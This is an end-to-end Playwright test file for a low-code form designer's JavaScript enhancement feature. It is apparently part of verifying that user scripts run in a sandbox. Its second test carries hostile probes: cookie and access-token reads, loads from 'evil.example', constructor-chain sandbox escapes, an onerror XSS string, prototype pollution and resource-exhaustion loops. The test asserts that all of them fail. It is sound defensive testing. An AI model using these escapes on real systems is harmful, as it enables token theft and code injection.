import { expect, type Page, test } from '@playwright/test';
import { call } from './support/call.ts';
import { column } from './support/online-form.ts';
import { holdSession } from './support/sign-in.ts';

const hidden = { isShowForm: 0, isShowList: 0 };
const moment = { ...hidden, dbType: 'Datetime', dbLength: 0, fieldShowType: 'datetime' };
const systemLines = [
  column('id', '主键', { ...hidden, dbLength: 36, dbIsKey: 1, dbIsNull: 0 }),
  ...['create_by', 'update_by', 'sys_org_code'].map((name) => column(name, name, hidden)),
  ...['create_time', 'update_time'].map((name) => column(name, name, moment)),
];
const money = (name: string, text: string, more: object = {}) =>
  column(name, text, { dbType: 'int', dbLength: 10, ...more });

async function form(page: Page, head: { tableName: string; tableTxt: string }, fields: readonly object[]) {
  const { id } = await call<{ id: string }>(page, 'POST', '/online/cgform/api/addAll', {
    head: { tableType: 1, ...head },
    fields: [...fields, ...systemLines],
    indexs: [],
  });
  await call(page, 'POST', `/online/cgform/api/doDbSynch/${id}/normal`, {});
  return id;
}
const script = (page: Page, id: string, cgJsType: 'form' | 'list', cgJs: string) =>
  call(page, 'PUT', `/online/cgform/head/enhanceJs/${id}`, { cgJsType, cgJs });

async function addIn(page: Page, id: string, what: string) {
  await page.goto(`/online/cgformList/${id}`);
  await page.getByRole('button', { name: '新增', exact: true }).first().click();
  const dialog = page.getByRole('dialog', { name: `新增${what}` });
  await expect(dialog).toBeVisible();
  return dialog;
}

test('a script fills in, adds up, offers choices, refuses to save, and stands behind buttons', async ({ page }) => {
  await holdSession(page);
  const table = `e2e_js_${Date.now() % 1_000_000}`;
  const id = await form(page, { tableName: table, tableTxt: '采购单', tableType: 2 } as never, [
    column('title', '标题'),
    column('region', '地区'),
    column('town', '城市'),
    money('total', '合计'),
    column('reason', '原因'),
  ]);
  await form(
    page,
    { tableName: `${table}_goods`, tableTxt: '物品', tableType: 3, relationType: 0, tabOrderNum: 1 } as never,
    [
      column('main_id', '外键', { ...hidden, mainTable: table, mainField: 'id' }),
      column('name', '名称'),
      money('price', '单价'),
    ],
  );
  for (const [buttonCode, buttonName, buttonStyle] of [
    ['summary', '合计所选', 'button'],
    ['fillTitle', '生成标题', 'form'],
  ])
    await call(page, 'POST', '/online/cgform/button/add', {
      ...{ cgformHeadId: id, buttonCode, buttonName, buttonStyle, buttonStatus: '1', optType: 'js', orderNum: 1 },
    });

  // The designer: a mistake is named with its place before anything is saved.
  await page.goto('/online/cgform');
  const row = page.getByRole('row', { name: new RegExp(`${table} `) });
  await row.getByRole('button', { name: /更多/ }).click();
  await page.getByRole('menuitem', { name: 'JS增强' }).click();
  const drawer = page.getByRole('dialog', { name: 'JS增强：采购单' });
  const editor = drawer.getByRole('textbox', { name: '表单脚本' });
  await editor.fill('loaded() {\n  let a = ;\n}');
  await drawer.getByRole('button', { name: '保存', exact: true }).click();
  await expect(drawer.getByText(/Unexpected token/).first()).toBeVisible();
  await expect(drawer.getByText(/2/).first()).toBeVisible();
  await editor.fill(`
    loaded() {
      if (!that.isUpdate) that.setFieldsValue({ region: '北区' });
      that.changeOptions('town', [{ value: 'hb', text: '哈尔滨' }, { value: 'bj', text: '北京' }]);
      that.sh.reason = false;
    },
    onlChange() {
      return {
        region(event) {
          that.changeOptions('town', event.value === '南区' ? [{ value: 'gz', text: '广州' }] : [{ value: 'bj', text: '北京' }]);
          that.setFieldsValue({ town: null });
        },
        total(event) { that.sh.reason = event.value > 1000; },
      };
    },
    ${table}_goods_onlChange() {
      const add = () => that.triggleChangeValue('total', that.getFieldsValue().${table}_goods.reduce((sum, row) => sum + (row.price || 0), 0));
      return { price: add, all: add };
    },
    beforeSubmit(row) {
      return new Promise((resolve, reject) => row.total > 5000 ? reject('合计不能超过5000') : resolve());
    },
    fillTitle() { that.setFieldsValue({ title: that.getFieldsValue().region + '采购' }); }`);
  await drawer.getByRole('button', { name: '保存', exact: true }).click();
  await expect(drawer).toBeHidden();
  await script(
    page,
    id,
    'list',
    `summary() {
       const { createMessage } = useMessage();
       if (that.selectedRows.length === 0) return createMessage.warning('请选择一条数据');
       createMessage.info('<b>合计</b> ' + that.selectedRows.reduce((sum, row) => sum + row.total, 0));
       that.clearSelectedRow();
     },
     async beforeEdit(row) {
       const { result } = await getAction('/online/cgform/records/${id}/queryById', { id: row.id });
       if (result.title === '锁定') throw new Error('锁定的单据不能编辑');
     },
     beforeDelete(row) { if (row.total > 100) return Promise.reject('合计超过100不能删除'); }`,
  );

  const dialog = await addIn(page, id, '采购单');
  await expect(dialog.getByLabel('地区')).toHaveValue('北区');
  await expect(dialog.getByLabel('原因')).toBeHidden();
  await dialog.getByLabel('地区').fill('南区');
  await dialog.getByRole('combobox', { name: '城市' }).click();
  await page.locator('.ant-select-dropdown:visible').getByTitle('广州').click();
  await dialog.getByRole('button', { name: '生成标题' }).click();
  await expect(dialog.getByLabel('标题')).toHaveValue('南区采购');
  await dialog.getByRole('button', { name: '新增', exact: true }).first().click();
  await dialog.getByRole('grid', { name: '物品' }).getByRole('row').nth(1).getByRole('gridcell').nth(4).dblclick();
  await page.keyboard.type('6000');
  await page.keyboard.press('Enter');
  await dialog.getByLabel('标题').click();
  await expect(dialog.getByLabel('合计')).toHaveValue('6000');
  await expect(dialog.getByLabel('原因')).toBeVisible();
  await dialog.getByRole('button', { name: '保存', exact: true }).click();
  await expect(page.getByText('合计不能超过5000')).toBeVisible();
  await expect(dialog).toBeVisible();
  await dialog.getByLabel('合计').fill('200');
  await dialog.getByRole('button', { name: '保存', exact: true }).click();
  await expect(dialog).toBeHidden();

  await call(page, 'POST', `/online/cgform/records/${id}/add`, { title: '锁定', total: 5 });
  await page.reload();
  await page.getByRole('button', { name: '合计所选' }).click();
  await expect(page.getByText('请选择一条数据')).toBeVisible();
  for (const name of ['南区采购', '锁定']) await page.getByRole('row', { name }).getByRole('checkbox').check();
  await page.getByRole('button', { name: '合计所选' }).last().click();
  await expect(page.getByText('<b>合计</b> 205')).toBeVisible();
  await page.getByRole('row', { name: '锁定' }).getByRole('button', { name: /^编辑/ }).click();
  await expect(page.getByText('锁定的单据不能编辑')).toBeVisible();
  await page.getByRole('row', { name: '南区采购' }).getByRole('button', { name: /更多/ }).click();
  await page.getByRole('menuitem', { name: '删除' }).click();
  await expect(page.getByText('合计超过100不能删除')).toBeVisible();
  await expect(page.getByRole('dialog', { name: '确认删除' })).toBeHidden();
  await page.getByRole('row', { name: '南区采购' }).getByRole('button', { name: /^编辑/ }).click();
  await expect(page.getByRole('dialog', { name: '编辑采购单' }).getByLabel('城市')).toBeVisible();
});

test('a script that attacks reaches nothing, is stopped where it hangs, and leaves the form to the person', async ({
  page,
}) => {
  test.slow();
  await holdSession(page);
  const outside: string[] = [];
  page.on('request', (request) => {
    if (/evil|sandbox-probe/.test(request.url())) outside.push(request.url());
  });
  const id = await form(page, { tableName: `e2e_js_bad_${Date.now() % 1_000_000}`, tableTxt: '试验' }, [
    column('title', '标题'),
    column('note', '备注', { dbType: 'Text', dbLength: 0 }),
    column('fixed', '只读', { isReadOnly: 1 }),
    money('amount', '数量'),
  ]);
  const probes = [
    'fetch("/sandbox-probe")',
    'new XMLHttpRequest()',
    'self.postMessage(1)',
    'document.cookie',
    'localStorage.getItem("dossier__Access-Token")',
    'importScripts("https://evil.example/x.js")',
    '({}).constructor.constructor("return fetch")()("/sandbox-probe")',
    'useMessage.constructor("return self.localStorage")()',
    'globalThis.constructor.constructor("return process")().exit()',
    'new Worker("https://evil.example/x.js")',
  ];
  await script(
    page,
    id,
    'form',
    `async loaded() {
       const reached = [];
       for (const probe of ${JSON.stringify(probes)}) { try { (0, eval)(probe); reached.push(probe); } catch (e) { console.log(e.name); } }
       try { await import('https://evil.example/x.js'); reached.push('import'); } catch {}
       for (const path of ['/sys/user/list', 'https://evil.example/x', '//evil.example/x', '/../sys/user/list', '/online/cgform/' + 'records/other/list'])
         try { await getAction(path, {}); reached.push(path); } catch {}
       for (const send of [postAction, putAction, deleteAction])
         try { await send('/online/cgform/records/${id}/add', { title: 'x' }); reached.push('sent'); } catch {}
       Object.prototype.polluted = 'yes';
       that.setFieldsValue({ note: reached.length + ' reached', title: '<img src=x onerror=alert(1)>' });
     },
     onlChange() { return {
       title(event) {
         const act = event.value;
         if (act === 'loop') for (;;) {}
         if (act === 'memory') { const all = []; for (;;) all[all.length] = new Array(1e5).fill('x'); }
         if (act === 'deep') { const f = () => f(); f(); }
         if (act === 'nest') JSON.parse('['.repeat(3e6));
         if (act === 'flood') for (;;) $message.info('x');
         if (act === 'ask') { const go = () => getAction('/sys/dict/getDictItems/sex').then(go); return go(); }
         if (act === 'html') $message.info('<b id="injected">text</b>');
         if (act === 'proxy') that.setFieldsValue(new Proxy({}, { ownKeys: () => ['amount', '__proto__'], getOwnPropertyDescriptor: () => ({ enumerable: true, configurable: true, value: 1 }), get: () => ({ toJSON() { return 7; } }) }));
         if (act === 'fixed') that.setFieldsValue({ fixed: 'x' });
         if (act === 'huge') that.setFieldsValue({ note: 'x'.repeat(900000) });
         if (act === 'chain') that.triggleChangeValue('amount', 1);
       },
       amount(event) { that.triggleChangeValue('amount', event.value + 1); } }; }`,
  );
  const dialog = await addIn(page, id, '试验');
  await expect(dialog.getByLabel('备注')).toHaveValue('0 reached', { timeout: 20_000 });
  await expect(dialog.getByLabel('标题')).toHaveValue('<img src=x onerror=alert(1)>');
  expect(await page.evaluate('({}).polluted')).toBeUndefined();

  const broken = 'js增强代码有语法错误，请检查代码~';
  const stopped = /已停止/;
  const does = async (act: string, said: string | RegExp) => {
    await dialog.getByLabel('标题').fill(act);
    await expect(dialog.getByText(said).first()).toBeVisible({ timeout: 25_000 });
    await dialog.locator('.ant-alert').getByRole('button', { name: '关闭' }).click();
  };
  await dialog.getByLabel('标题').fill('html');
  await expect(page.getByText('<b id="injected">text</b>')).toBeVisible();
  await expect(page.locator('#injected')).toHaveCount(0);
  await does('fixed', broken);
  await does('chain', broken);
  // How deep a thread goes is the browser's to say: the interpreter tells, or the thread is ended.
  await does('deep', /js增强代码|脚本已停止/);
  await does('huge', broken);
  await dialog.getByLabel('标题').fill('proxy');
  await does('flood', broken);
  // Three sandboxes that went wrong are enough: the script is left alone then.
  await does('loop', stopped);
  await does('memory', stopped);
  await does('nest', stopped);
  await does('html', stopped);
  expect(outside).toEqual([]);
  await dialog.getByLabel('标题').fill('still here');
  await dialog.getByRole('button', { name: '保存', exact: true }).click();
  await expect(page.getByRole('row', { name: /still here/ })).toBeVisible();
});
